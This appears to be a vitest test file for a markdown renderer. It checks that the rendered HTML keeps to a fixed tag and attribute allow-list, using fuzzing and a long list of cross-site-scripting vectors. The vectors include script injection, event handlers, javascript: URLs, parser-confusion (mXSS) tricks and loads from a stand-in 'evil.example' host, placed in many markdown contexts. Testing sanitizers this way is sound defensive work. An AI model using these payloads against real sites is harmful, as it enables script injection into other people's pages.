import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { renderText } from './render-text.ts'

// Written out from the specification, so that a slip in the product's own list is seen here.
const TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 blockquote p a ul ol li b i strong em strike code hr br div table caption colgroup col thead tbody tfoot tr th td pre span'.split(
    ' ',
  ),
)
const INLINE = new Set('a b i strong em strike code span br'.split(' '))
const ATTRIBUTES: Record<string, (value: string, tag: string) => boolean> = {
  id: (value) => /^p[1-9]\d*$/.test(value),
  class: (value) => /^[A-Za-z][\w-]*( [A-Za-z][\w-]*)*$/.test(value),
  style: (value) => /^[a-z-]+: [a-z0-9. -]+(; [a-z-]+: [a-z0-9. -]+)*$/.test(value),
  href: (value, tag) =>
    tag === 'a' && /^(https?:|mailto:)|^[^:]*$|^[^:]*[/?#]/.test(value) && !/^[\\/]{2}|\p{Cc}/u.test(value),
  name: (value, tag) => tag === 'a' && /^(name-|note-\d)/.test(value),
  target: (value, tag) => tag === 'a' && value === '_blank',
  rel: (value, tag) => tag === 'a' && value === 'noopener noreferrer nofollow',
}

type Node = DefaultTreeAdapterTypes.ChildNode
type Parent = DefaultTreeAdapterTypes.ParentNode

function textOf(node: Node): string {
  if ('value' in node) return node.value
  if (node.nodeName === 'br') return '\n'
  if (!('childNodes' in node)) return ''
  const holdsBlocks = node.childNodes.some(({ nodeName }) => nodeName !== '#text' && !INLINE.has(nodeName))
  return node.childNodes.map(textOf).join(node.nodeName === 'tr' ? '\t' : holdsBlocks ? '\n' : '')
}

/** Reads the HTML as a browser would and fails on anything that the specification does not allow. */
function inspect(markdown: string): void {
  const { html, blocks, length } = renderText(markdown)
  const tags: string[] = []
  const anchors: string[] = []
  const read: { ord: number; text: string }[] = []
  const visit = (parent: Parent, inside: readonly string[]) => {
    for (const node of parent.childNodes) {
      if (node.nodeName === '#text') continue
      if (!('tagName' in node)) throw new Error(`${node.nodeName} in ${html}`)
      const { tagName, attrs, childNodes } = node
      tags.push(tagName)
      if (!TAGS.has(tagName) || (tagName === 'a' && inside.includes('a'))) throw new Error(`${tagName} in ${html}`)
      for (const { name, value } of attrs) {
        if (!ATTRIBUTES[name]?.(value, tagName)) throw new Error(`${name}=${value} in ${html}`)
        if (name === 'name') anchors.push(value)
        if (name === 'id') read.push({ ord: Number(value.slice(1)), text: textOf(node) })
      }
      if (attrs.some(({ name }) => name === 'href') !== attrs.some(({ name }) => name === 'rel')) throw new Error(html)
      visit(node, [...inside, tagName])
      if (childNodes.length > 0 || !['br', 'hr', 'col'].includes(tagName)) tags.push(`/${tagName}`)
    }
  }
  visit(parseFragment(html), [])
  // The browser's tree is the one that was meant: nothing was moved, closed or made up while reading.
  const written = [...html.matchAll(/<(\/?[a-z0-9]+)(?: [a-z]+="[^"]*")*>/g)].map(([, tag]) => tag)
  expect(tags).toEqual(written)
  expect(html.replace(/<\/?[a-z0-9]+(?: [a-z]+="[^"]*")*>/g, '')).not.toContain('<')
  expect(read).toEqual(blocks)
  expect(blocks.map(({ ord }) => ord)).toEqual(blocks.map((_, at) => at + 1))
  expect(new Set(anchors).size).toBe(anchors.length)
  expect(blocks.map(({ text }) => text.replace(/\s/g, '')).reduce((sum, text) => sum + [...text].length, 0)).toBe(
    length,
  )
  expect(html.isWellFormed()).toBe(true)
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss>alert(1)</script >',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" alt="<script>alert(1)</script>">',
  '<img src=x:x alt=`onerror=alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><p>x</p></desc><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<svg/><p id=p1 onclick=x>y',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><p>x<script>alert(1)</script></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template><p></template><img src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script></textarea><img src=x onerror=y>',
  '</textarea><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style>',
  '<style><style></style><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><iframe onload=alert(1)>" /></noembed>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet><bgsound src=javascript:x>',
  '<form action=javascript:alert(1)><input type=submit formaction=javascript:x><button>go</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<body onload=alert(1)><html onclick=x><head><base href=javascript:/a/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src onerror=x>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<keygen autofocus onfocus=alert(1)><menuitem><dialog open onclose=x>y',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" href="https://a.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href=feed:javascript:alert(1)>y</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">y</a><a href="\\\\evil">z</a>',
  '<a href="https://a.example" onclick=alert(1) ping=//evil.example target=evil download>x</a>',
  '<a href=x name=cookie>x</a><a name=p1 id=p1>y</a><a name="getElementById">z</a>',
  '<a href="x"onclick="y"/onfocus=z autofocus>w</a>',
  '<a href=\'x\' "=" onclick=alert(1)>x</a>',
  '<a =href=x ==onclick=y <b>z</a>',
  '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9;text-align:center">x</p>',
  '<p style="te\\78t-align:center;behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="text-align:center/*">x</p><p style="*/;color:red">',
  '<p style="text-align:\u0000center;width:expression(alert(1))">x</p>',
  '<p class="x&quot; onclick=&quot;alert(1)">x</p>',
  '<p id="p1">x</p><h1 id=p2>y</h1><div id="p1">z</div>',
  '<p/id=p1/onclick=alert(1)>x',
  '<p data-x=1 aria-label=x is=y slot=z xmlns=q contenteditable>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e +ADw-script+AD4-',
  '<table><tr><td><table><a href=x><b><script>alert(1)</script></table></a>',
  '<table><style><img src=x onerror=alert(1)></style><tr onclick=x><td background=javascript:x>y',
  '<table><a href=/a><table><a href=/b><table><a href=/c>x',
  '<b><p><table><b><p><a><table><a></b>',
  '<ul><li><form><ul><script>x</ul></form><li onclick=y>z',
  '<a href="/x"><div><a href="/y"><p><a href="/z">w',
  '<pre>\n\n<script>alert(1)</script></pre>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&#58;alert(1)) [y](java&Tab;script:alert(1))',
  '[x]( <javascript:alert(1)> "t") ![y](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=) [y](\\javascript:alert(1))',
  '[x]: javascript:alert(1)\n[x] [y][x]',
  '<javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:x>',
  '[x](https://a.example "\\" onclick=alert(1) \\"")',
  '[x](https://a.example/"onclick="alert(1)) [y](<https://a.example/"><img src=x onerror=y>>)',
  '![" onerror="alert(1)](x "\\" onload=\\"y") ![<script>alert(1)</script>](x)',
  '```"><script>alert(1)</script>\nx\n```',
  '``` x" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>` \\<script>alert(1)\\</script>',
  '[^"><script>]: <script>alert(1)</script>\n\nx[^"><script>]',
  '[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: <img src=x onerror=y>',
  '[__proto__] [constructor][toString]\n\n[constructor]: javascript:alert(1)',
  '<constructor>x</constructor><__proto__ onclick=y>z</__proto__><tostring>',
  '# <img src=x onerror=alert(1)> {#p1 onclick=x}\n\n{: id="p1"}',
  '<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>',
  '<svg>\n\n<script>alert(1)</script>\n\n</svg>',
  '<div\n\nonclick=alert(1)>x</div>',
  'https://a.example/"onclick=alert(1) http://a.example/<img/src=x> javascript://a.example/%0aalert(1)',
]

const PLACES: Record<string, (vector: string) => string> = {
  'on its own': (vector) => vector,
  'in a paragraph': (vector) => `a ${vector} b\nc`,
  'in emphasis': (vector) => `**a *b ${vector} c* d**`,
  'in a list': (vector) => `- ${vector}\n- a\n\n  ${vector}`,
  'in a quotation': (vector) => `> ${vector.replaceAll('\n', '\n> ')}\n\na`,
  'in a table': (vector) => `| a | b |\n|---|---|\n| ${vector.replaceAll('\n', ' ')} | c |`,
  'in the text of a link': (vector) => `[a ${vector} b](https://a.example)`,
  'in a footnote': (vector) => `a[^n]\n\n[^n]: ${vector}`,
  'in a division': (vector) => `<div class="x">${vector}\n\na\n\n</div>`,
  'in a cell of HTML': (vector) => `<table><tr><td>${vector}</td></tr></table>`,
  'in an attribute': (vector) => `<p class="${vector}" style='${vector}'>a</p> <a href=${vector}>b</a>`,
}

describe.each(Object.entries(PLACES))(
  '§5 translation content: nothing but the allow-list comes out, %s',
  (_, place) => {
    test.each(VECTORS)('%j', (vector) => {
      inspect(place(vector))
    })
  },
)

const FRAGMENTS = [
  ...[...TAGS].flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
  ...'script style svg math template noscript textarea title iframe plaintext section form del img input'
    .split(' ')
    .flatMap((tag) => [
      `<${tag}>`,
      `</${tag}>`,
      `<${tag} onclick=x id=p1 name=x href="javascript:x" style="text-align:end">`,
    ]),
  ...[
    '<a href="/x">',
    '<a name=n>',
    '<li id=p1>',
    '<ol start=3>',
    '<td align=center>',
    '<b class="x y" style="direction:rtl">',
  ],
  ...[
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<?',
    '?>',
    '<',
    '>',
    '</x',
    '<a',
    '<b onclick="',
    '=',
    '">',
    '"',
    "'",
    '&',
    ';',
    '\\',
  ],
  ...[
    'text',
    'é',
    '字',
    '😀',
    ' ',
    '  ',
    '\n',
    '\n\n',
    '\n    ',
    '\t',
    '&amp;',
    '&lt;',
    '&nbsp;',
    '&#x202e;',
    '&#0;',
    '://',
  ],
  ...[
    '*',
    '**',
    '_',
    '`',
    '```\n',
    '~~',
    '[',
    ']',
    '](x)',
    '](javascript:y)',
    '![',
    '> ',
    '- ',
    '1. ',
    '# ',
    '|',
    '---\n',
    '[ ] ',
  ],
  ...[
    '|a|b|\n|-|-|\n|',
    '[^1]',
    '\n\n[^1]: ',
    '\n\n[x]: /u\n\n',
    'http://a.example',
    '<http://b.example>',
    '\\\n',
    '===\n',
  ],
  ...[
    '\u202A',
    '\u202E',
    '\u2066',
    '\u2069',
    '\u202C',
    '\u200D',
    '\u2028',
    '\u2029',
    '\ud800',
    '\0',
    '\uFEFF',
    '\u0085',
    '\f',
  ],
]

test('§5 translation content: no text whatever breaks the rules', { timeout: 60_000 }, () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => inspect(text)),
    { numRuns: 500 },
  )
})

test('§5 translation content: no mixture of markup breaks the rules', { timeout: 60_000 }, () => {
  const markup = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 40 }).map((parts) => parts.join(''))
  fc.assert(
    fc.property(markup, (text) => inspect(text)),
    { numRuns: 3_000 },
  )
})
